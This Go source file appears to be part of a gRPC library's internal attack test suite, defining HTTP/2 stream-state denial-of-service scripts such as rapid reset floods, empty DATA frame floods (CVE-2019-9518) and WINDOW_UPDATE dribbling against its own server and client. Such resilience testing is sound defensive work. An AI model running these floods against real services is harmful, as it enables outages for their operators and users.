// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// stateKinds are attacks with streams of all states (RFC 9113, 5.1), and with their ends.
var stateKinds = []Kind{
	{
		Name: "server/state/reset-all", Serve: limited, Short: true, Own: 4 * 100 * poured,
		About:  "streams that are open, half-closed, have unread messages or unsent answers, or are over, reset together",
		Attack: flood(4, true, resetAll),
	},
	{
		Name: "server/state/reset-unsent", Serve: limited, Own: 4 * 100 * poured,
		About:  "100 streams with answers that wait for windows of 0, reset, again and again",
		Attack: flood(4, true, resetAfter(100, orders.Pour, nil, 20*time.Millisecond)),
	},
	{
		Name: "server/state/reset-unread", Serve: limited,
		About:  "50 streams with 10 KB that handlers have not read, reset, again and again",
		Attack: flood(4, true, resetAfter(50, orders.Deaf, wire.AppendMessage(nil, 0, make([]byte, 10<<10)), 0)),
	},
	{
		Name: "server/state/reset-half-message", Serve: limited,
		About:  "50 streams with a byte of a message of 4 MiB, reset, again and again",
		Attack: flood(4, true, resetAfter(50, orders.Sink, append(wire.AppendPrefix(nil, 0, 4*mib-1), 0), 0)),
	},
	{
		Name: "server/state/reset-handed-over", Serve: orders.Serve{HandedOver: true, MaxStreams: 100}, Own: 4 * 100 * poured,
		About:  "100 streams whose handlers have handed them over, with answers that wait, reset, again and again",
		Attack: flood(4, true, resetAfter(100, orders.Pour, nil, 20*time.Millisecond)),
	},
	{
		Name: "server/state/reset-twice", Serve: limited,
		About: "two RST_STREAMs and a WINDOW_UPDATE for each call",
		Attack: flood(4, true, headersThen(slowCall, func(c *attacker.Conn, id uint32) error {
			return first(c.Reset(id, wire.Cancel), c.Reset(id, wire.NoError), c.Window(id, 1))
		})),
	},
	{
		Name:  "server/state/half-closed",
		About: "5,000 calls whose clients have nothing more to say, and whose handlers wait",
		Attack: hold(1, true, func(c *attacker.Conn) error {
			for range 5000 {
				if err := c.Headers(c.Stream(), wire.EndStream, wire.Request(orders.Deaf)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name:  "server/state/half-closed-data",
		About: "DATA and trailers on calls that the client has ended (RFC 9113, 5.1: STREAM_CLOSED)",
		Attack: flood(4, true, func(c *attacker.Conn) error {
			id := c.Stream()
			return first(c.Headers(id, wire.EndStream, wire.Request(orders.Deaf)), c.Data(id, 0, make([]byte, 100)),
				c.Headers(id, wire.EndStream, wire.Trailers()))
		}),
	},
	{
		Name: "server/state/half-closed-handed-over", Serve: handedServe,
		About: "5,000 such calls whose handlers have handed them over",
		Attack: hold(1, true, func(c *attacker.Conn) error {
			for range 5000 {
				if err := c.Headers(c.Stream(), wire.EndStream, wire.Request(orders.Sink)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name:  "server/state/empty-data-ends",
		About: "calls that end with an empty DATA frame, behind 20 empty ones",
		Attack: flood(4, true, func(c *attacker.Conn) error {
			id := c.Stream()
			if err := c.Headers(id, 0, wire.Request(orders.Sink)); err != nil {
				return err
			}
			for range 20 {
				if err := c.Frame(wire.Data, 0, id, nil); err != nil {
					return err
				}
			}
			return c.Frame(wire.Data, wire.EndStream, id, nil)
		}),
	},
	{
		Name:  "server/state/empty-data-many",
		About: "empty DATA for each of 1,000 streams in turn (CVE-2019-9518)",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(2, func(c *attacker.Conn) error {
				c.Drain(nil)
				ids, err := open(c, 1000, orders.Sink)
				if err != nil {
					return err
				}
				return repeat(c, func(c *attacker.Conn) error {
					for _, id := range ids {
						if err := c.Frame(wire.Data, 0, id, nil); err != nil {
							return err
						}
					}
					return nil
				})
			})
		},
	},
	{
		Name: "server/state/updates-many", Own: 1000 * poured,
		About:  "WINDOW_UPDATE of 1 for each of 1,000 streams that want answers without end, in windows of 0",
		Attack: pouring(1, 1000, 0, true, dribble(1000)),
	},
	{
		Name: "client/state/half-closed", Work: streams(orders.Sink, 200), Own: 200 * poured,
		About:  "calls that the server ends while the client sends, without a reset (RFC 9113, 8.1)",
		Attack: serveStreams(headersOf(wire.EndStream, wire.Response(wire.Field{Name: "grpc-status", Value: "0"}))),
	},
	{
		Name: "client/state/reset-all", Work: streams(orders.Sink, 100), Own: 100 * poured,
		About: "calls that are reset before headers, behind them, behind a message, in a message, and twice",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			if n := id / 2 % 5; n > 0 {
				if err := c.Headers(id, 0, wire.Response()); err != nil {
					return err
				}
				if err := c.Frame(wire.Data, 0, id, wire.AppendPrefix(nil, 0, n-1)); err != nil {
					return err
				}
			}
			return first(c.Reset(id, wire.Cancel), c.Reset(id, wire.Cancel))
		}),
	},
	{
		Name: "client/state/after-trailers", Work: callers(20),
		About: "headers, DATA and trailers again behind the end of an answer",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			return first(answer(c, id, nil), answer(c, id, nil))
		}),
	},
	{
		Name: "client/state/updates-many", Work: streams(orders.Sink, 500), Own: 500 * poured,
		About: "WINDOW_UPDATE of 1 for each of 500 streams that want to send, in windows of 0",
		Attack: func(a *attacker.Attacker) error {
			return a.Serve(func(c *attacker.Conn) error {
				if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: 0}); err != nil {
					return err
				}
				if err := c.Flush(); err != nil {
					return err
				}
				c.Drain(nil)
				a.Sleep(200 * time.Millisecond)
				return repeat(c, func(c *attacker.Conn) error { return first(dribble(500)(c), c.Flush()) })
			})
		},
	},
	{
		Name: "client/state/empty-data-many", Work: streams(orders.Pour, 200),
		About: "empty DATA in turn for 200 streams that are read (CVE-2019-9518)",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			if err := c.Headers(id, 0, wire.Response()); err != nil {
				return err
			}
			for range 1000 {
				if err := c.Frame(wire.Data, 0, id, nil); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name: "client/state/handed-over-tiny", Work: handedOver(orders.Pour, 100),
		About:  "messages of one byte, as many as windows take, for 100 streams without goroutines (package streams)",
		Attack: serveStreams(begin(messages([]byte{0}))),
	},
	{
		Name: "client/state/handed-over-resets", Work: handedOver(orders.Sink, 100), Own: 100 * poured,
		About:  "streams without goroutines that are reset while they send",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error { return c.Reset(id, wire.Cancel) }),
	},
}

// resetAfter opens n streams of a method, sends the beginning of a body on each, waits, and resets them.
func resetAfter(n int, method string, body []byte, pause time.Duration) script {
	block := wire.Request(method)
	return func(c *attacker.Conn) error {
		ids, err := openBlock(c, n, block)
		if err != nil {
			return err
		}
		for _, id := range ids {
			if len(body) > 0 {
				if err := c.Data(id, 0, body); err != nil {
					return err
				}
			}
		}
		if err := c.Flush(); err != nil {
			return err
		}
		if pause > 0 {
			c.Attacker().Sleep(pause)
		}
		for _, id := range ids {
			if err := c.Reset(id, wire.Cancel); err != nil {
				return err
			}
		}
		return nil
	}
}

// resetAll has streams in every state, and then resets them all.
func resetAll(c *attacker.Conn) error {
	var ids []uint32
	for range 10 {
		for state := range 5 {
			id := c.Stream()
			ids = append(ids, id)
			if err := bring(c, id, state); err != nil {
				return err
			}
		}
	}
	if err := c.Flush(); err != nil {
		return err
	}
	for _, id := range ids {
		if err := c.Reset(id, wire.Cancel); err != nil {
			return err
		}
	}
	return nil
}

// bring brings a new stream into a state.
func bring(c *attacker.Conn, id uint32, state int) error {
	switch state {
	case 0:
		return c.Headers(id, 0, wire.Request(orders.Sink)) // open
	case 1:
		return c.Headers(id, wire.EndStream, wire.Request(orders.Deaf)) // half-closed
	case 2: // unread
		return first(c.Headers(id, 0, wire.Request(orders.Deaf)), c.Data(id, 0, wire.AppendMessage(nil, 0, make([]byte, 100))))
	case 3: // unsent
		return c.Headers(id, wire.EndStream, wire.Request(orders.Pour))
	}
	return c.Headers(id, wire.EndStream, unknownCall) // over
}
